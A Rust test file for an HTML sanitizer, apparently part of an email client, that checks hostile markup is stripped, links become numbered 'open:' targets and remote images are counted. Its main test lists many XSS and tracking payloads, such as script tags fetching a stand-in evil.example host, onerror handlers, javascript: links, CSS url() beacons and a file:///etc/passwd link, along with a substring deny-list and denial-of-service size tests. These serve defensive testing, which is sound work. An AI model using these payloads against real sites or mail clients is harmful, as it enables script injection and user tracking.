use super::{clean, html_to_text};

/// What a browser could fetch, run or be led away by, once the HTML is written anew.
fn assert_harmless(html: &str) {
    let cleaned = clean(html);
    let lower = without_text_attributes(&cleaned.html).to_ascii_lowercase();
    for tag in lower.split('<').skip(1).map(|tag| tag.split('>').next().unwrap_or_default()) {
        let name = tag.trim_start_matches('/').split(' ').next().unwrap_or_default();
        let known = "a abbr b blockquote br code div em font h1 i img li ol p pre s span strong table tbody td th tr u ul";
        assert!(known.split(' ').any(|k| k == name), "<{name}> survives of {html:?}: {}", cleaned.html);
        for bad in [
            "//",
            "url(",
            "javascript",
            "vbscript",
            "data:text",
            "data:image/svg",
            "srcset",
            "background=",
            "poster",
            "ping",
            " on",
            "/on",
            " id=",
            "class=",
            "name=",
            "expression",
            "@import",
            "position",
            "behavior",
            "file:",
            "action",
            "xlink",
            "xmlns",
            "http",
            "evil",
            "tabindex",
            "autofocus",
            "contenteditable",
        ] {
            assert!(!tag.contains(bad), "{bad:?} survives of {html:?}: {}", cleaned.html);
        }
        if let Some((_, target)) = tag.split_once("href=\"") {
            assert!(target.starts_with("open:"), "{tag}");
        }
        if let Some((_, source)) = tag.split_once(" src=\"") {
            assert!(source.starts_with("data:image/"), "{tag}");
        }
    }
    for link in &cleaned.links {
        let scheme = link.split(':').next().unwrap_or_default();
        assert!(["http", "https", "mailto", "tel"].contains(&scheme), "{link}");
    }
}

/// The values of these are text for people or a name to look up: no address acts there. That they are escaped
/// is seen by what is left.
fn without_text_attributes(html: &str) -> String {
    let mut out = String::new();
    let mut rest = html;
    let next = |rest: &str| {
        let starts = [" title=\"", " alt=\"", " data-cid=\""];
        starts.iter().filter_map(|start| Some((rest.find(start)?, start.len()))).min()
    };
    while let Some((at, length)) = next(rest) {
        out.push_str(&rest[..at]);
        rest = rest[at + length..].split_once('"').map_or("", |(_, tail)| tail);
    }
    out + rest
}

#[test]
fn hostile_constructs_lose_their_sting() {
    for html in [
        "<script>fetch('https://evil.example')</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img/src='x'/onerror='alert(1)'>",
        "<img src=\"https://evil.example/p.gif\">",
        "<img src=//evil.example/p.gif srcset='https://evil.example/2x 2x'>",
        "<img srcset='https://evil.example/2x 2x'>",
        "<image src=https://evil.example/p.gif>",
        "<picture><source srcset=https://evil.example/a><img src=https://evil.example/b></picture>",
        "<svg onload=alert(1)><image href='https://evil.example/x'/></svg>",
        "<svg><style><img src=https://evil.example/x></style></svg>",
        "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<style>@import url(https://evil.example/x.css);</style>",
        "<style>body{background:url(https://evil.example/x)}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=preconnect href=https://evil.example>",
        "<link rel=dns-prefetch href=//evil.example>",
        "<base href=https://evil.example/><a href=x>x</a>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<form action=https://evil.example><input name=a><button formaction=https://evil.example>x</button></form>",
        "<input type=image src=https://evil.example/x>",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=https://evil.example></object><embed src=https://evil.example>",
        "<video poster=https://evil.example/x src=https://evil.example/y autoplay></video>",
        "<audio src=https://evil.example/x autoplay></audio><track src=https://evil.example>",
        "<body background=https://evil.example/x onload=alert(1)>",
        "<table background=https://evil.example/x><tr><td background=//evil.example/y>x</table>",
        "<div style=\"background-image:url(https://evil.example/x)\">x</div>",
        "<div style=\"background:u\\72l(https://evil.example/x)\">x</div>",
        "<div style='background:/**/url(/**/https://evil.example)'>x</div>",
        "<div style='width:expression(alert(1));behavior:url(evil);-moz-binding:url(evil)'>x</div>",
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
        "<div style='list-style:url(https://evil.example);content:url(//evil.example);cursor:url(//evil.example),auto'>",
        "<div style=\"background:image-set('https://evil.example/x' 1x)\">x</div>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='  java\tscript:alert(1)'>x</a>",
        "<a href='&#106;avascript&colon;alert(1)'>x</a>",
        "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>x</a><a href='tauri://localhost/'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='http://[::1/x'>x</a><a href='http://'>x</a><a href='https:///'>x</a>",
        "<a href='https://x.example' ping='https://evil.example' target=_blank onclick=alert(1)>x</a>",
        "<a href=\"https://x.example/\"title=\"'><img src=x onerror=alert(1)>\">x</a>",
        "<area href='https://evil.example' ping=https://evil.example>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "<img src='data:text/html;base64,PHNjcmlwdD4='>",
        "<img src=\"data:image/png;base64,x' onerror='alert(1)\">",
        "<img src='cid:x\" onerror=\"alert(1)'>",
        "<img alt='\"><script>alert(1)</script>' src=cid:x>",
        "<p title='\"><img src=https://evil.example>'>x</p>",
        "<!--[if mso]><img src=https://evil.example><![endif]--><![if !mso]>x<![endif]>",
        "<!--><script>alert(1)</script>--><!---><img src=https://evil.example>-->",
        "<xmp><img src=https://evil.example></xmp><plaintext><img src=https://evil.example>",
        "<textarea><img src=https://evil.example></textarea><title><img src=https://evil.example></title>",
        "<template><img src=https://evil.example></template><select><option><img src=https://evil.example></select>",
        "<![CDATA[<img src=https://evil.example>]]>",
        "<?xml version=1?><?php evil ?><img src=https://evil.example>",
        "<a<b href=https://evil.example><img<script>",
        "<font face=\"x');background:url(https://evil.example)\" color='red;background:url(//evil.example)'>x</font>",
        "<td style=\"color:red\" bgcolor='\"><script>'>x</td>",
        "<p style='color:red;\n--x:url(https://evil.example)'>x</p>",
        "\0<\0script>alert(1)<\0/script>",
        "<div id=app class=evil name=evil contenteditable autofocus tabindex=1>x</div>",
        "<marquee onstart=alert(1)><details open ontoggle=alert(1)><keygen autofocus onfocus=alert(1)>",
        "<img src=https://evil.example",
        "<a href=\"https://evil.example",
        "<",
        "</",
        "<!",
    ] {
        assert_harmless(html);
        // Cut anywhere, and once more through what came out.
        for end in (0..html.len()).filter(|&end| html.is_char_boundary(end)) {
            assert_harmless(&html[..end]);
        }
        assert_harmless(&clean(html).html);
    }
}

#[test]
fn remote_pictures_are_counted_and_not_named() {
    for (html, count) in [
        ("<img src=https://x.example/a.png alt=cat>", 1),
        ("<img src=//x.example/a><img src=HTTP://x.example/b>", 2),
        ("<img srcset='a 1x, https://x.example/b 2x'>", 1),
        ("<table background=https://x.example/a><tr><td background='http://x.example/b'>x", 2),
        ("<div style='background:url(\"https://x.example/a\") no-repeat'>x</div>", 1),
        ("<video poster=https://x.example/a></video>", 1),
        ("<svg><image xlink:href=https://x.example/a /></svg>", 1),
        ("<input type=image src=https://x.example/a>", 1),
        ("<img src=cid:a><img src=data:image/png;base64,AAAA><img src=file:///x><img>", 0),
        ("<div style='background:url(cid:a)'>x</div>", 0),
    ] {
        let cleaned = clean(html);
        assert_eq!(cleaned.remote_images, count, "{html:?}");
        assert!(!cleaned.html.contains("x.example"), "{}", cleaned.html);
    }
    assert_eq!(
        clean("<img src=https://x.example/a.png alt=cat width=5>").html,
        "<img alt=\"cat\" width=\"5\">"
    );
}

#[test]
fn links_become_numbers() {
    let cleaned = clean(
        "<a href='https://x.example/?a=1&amp;b=2'>one</a> <a href=mailto:anna@studio.example>two</a> \
         <a href='tel:+49123'>three</a> <a href='www.y.example'>four</a> <a href='#top'>five</a> \
         <a href='HTTPS://M\u{dc}NCHEN.example/'>six</a>",
    );
    assert_eq!(
        cleaned.links,
        [
            "https://x.example/?a=1&b=2",
            "mailto:anna@studio.example",
            "tel:+49123",
            "http://www.y.example/",
            "https://xn--mnchen-3ya.example/"
        ]
    );
    assert!(
        cleaned.html.starts_with(
            "<a href=\"open:0\" target=\"_top\" title=\"https://x.example/?a=1&amp;b=2\">one</a>"
        )
    );
    assert!(cleaned.html.contains("<a>five</a>"), "{}", cleaned.html);
}

#[test]
fn pictures_of_the_mail_are_named_by_content_id() {
    let cleaned = clean("<img src='cid:a%40x' alt='A &amp; B'><img src=CID:b@x><img src=cid:a@x>");
    assert_eq!(cleaned.content_ids, ["a@x", "b@x"]);
    assert!(cleaned.html.starts_with("<img data-cid=\"a@x\" alt=\"A &amp; B\">"), "{}", cleaned.html);
    let data = clean("<img src='data:image/PNG;base64,iVBO\n Rw0='>");
    assert_eq!(data.html, "<img src=\"data:image/png;base64,iVBORw0=\">");
}

#[test]
fn what_people_write_stays_as_it_looks() {
    for (html, kept) in [
        ("<p>Dear <b>Jo</b>,<br>thanks</p>", "<p>Dear <b>Jo</b>,<br>thanks</p>"),
        ("a &lt; b &amp;&nbsp;c", "a &lt; b &amp;&nbsp;c"),
        ("<p style='color: red; position: fixed'>x", "<p style=\"color:red\">x</p>"),
        ("<font color=#ff0000 size=5>x</font>", "<span style=\"color:#ff0000;font-size:x-large\">x</span>"),
        (
            "<p style=\"font-family:'Segoe UI', Arial; margin:0 auto; color:rgb(1, 2, 3)!important; line-height:1.5\">x",
            "<p style=\"font-family:&quot;Segoe UI&quot; , Arial;margin:0 auto;color:rgb(1, 2, 3) ! important;line-height:1.5\">x</p>",
        ),
        (
            "<p style='font-family:\"A B\";border:1px solid #eee'>x",
            "<p style=\"font-family:&quot;A B&quot;;border:1px solid #eee\">x</p>",
        ),
        (
            "<a href=https://x.example><table><tr><td><div>Book</div></td></tr></table></a>",
            "<a href=\"open:0\" target=\"_top\" title=\"https://x.example/\"><table><tbody><tr><td><div>Book</div></td></tr></tbody></table></a>",
        ),
        ("<p>a<p>b<div><p>c</div>d", "<p>a</p><p>b</p><div><p>c</p></div>d"),
        ("<pre>  a\n  b</pre>", "<pre>  a\n  b</pre>"),
        ("<ol start=3 type=a><li value=5>x</ol>", "<ol start=\"3\" type=\"a\"><li value=\"5\">x</li></ol>"),
        (
            "<table><caption>c<tbody><tr><td>x</table>",
            "<table><caption>c</caption><tbody><tr><td>x</td></tr></tbody></table>",
        ),
        (
            "<table><tr><td>a<table><tr><td>b</table>c</table>d",
            "<table><tbody><tr><td>a<table><tbody><tr><td>b</td></tr></tbody></table>c</td></tr></tbody></table>d",
        ),
        ("<center>x</center>", "<div style=\"text-align:center\">x</div>"),
        (
            "<body bgcolor=black text=white>x</body>",
            "<div bgcolor=\"black\" style=\"color:white;background-color:black\">x</div>",
        ),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        (
            "<table width=100%><tr><td colspan=2>a<td>b<tr><th>c</table>",
            "<table width=\"100%\"><tbody><tr><td colspan=\"2\">a</td><td>b</td></tr><tr><th>c</th></tr></tbody></table>",
        ),
        ("<table>lost</table>", "<table><tbody><tr><td>lost</td></tr></tbody></table>"),
        ("<b><i>x</b>y</i>", "<b><i>x</i></b>y"),
        ("<div><b><div>x</b>y</div>z</div>", "<div><b><div>xy</div></b>z</div>"),
        ("<td>x</td></div></p>y", "xy"),
        ("<blockquote>q</blockquote>", "<blockquote>q</blockquote>"),
        ("<div dir=rtl lang=he>x</div>", "<div dir=\"rtl\" lang=\"he\">x</div>"),
        ("<svg><path/></svg>y", "y"),
        ("<svg><p>y", "<p>y</p>"),
    ] {
        assert_eq!(clean(html).html, kept, "{html:?}");
    }
}

#[test]
fn hostile_sizes_cost_their_length() {
    // In quadratic time these would take minutes each; a loaded machine needs some seconds.
    let many = 30_000;
    for html in [
        "<div>".repeat(many),
        "<div>".repeat(many) + &"</div>".repeat(many),
        "<b><i>".repeat(many),
        "<a href=https://x.example>".repeat(many),
        "<table>".repeat(many),
        "<table><tr><td>".repeat(many),
        "<blockquote>x".repeat(many),
        "<p><font color=red><b>x".repeat(many),
        (0..many).fold(String::new(), |html, n| html + "<b title=" + &n.to_string() + "><p>x"),
        format!("<p {}>", (0..many).map(|n| format!("a{n}=1")).collect::<Vec<_>>().join(" ")),
        format!("<p style='{}'>", "color:red;".repeat(many)),
        format!("<p style='{}'>", "color:rgb(".repeat(many)),
        "<!--".repeat(many),
        "<style>".repeat(many),
        "</".repeat(many),
        "<svg>".repeat(many),
        "<".repeat(many),
        "&".repeat(many),
        "&#".repeat(many),
        "&ampamp".repeat(many),
        "<img src='".repeat(many),
        "<ul><li>".repeat(many),
        "</p>".repeat(many),
        "<table>x".repeat(many),
    ] {
        let started = std::time::Instant::now();
        let cleaned = clean(&html);
        assert!(cleaned.html.len() < 20 * html.len() + 1_000, "{}", &html[..40]);
        let _ = html_to_text(&html);
        assert!(started.elapsed().as_secs() < 60, "{}: {:?}", &html[..40], started.elapsed());
    }
}
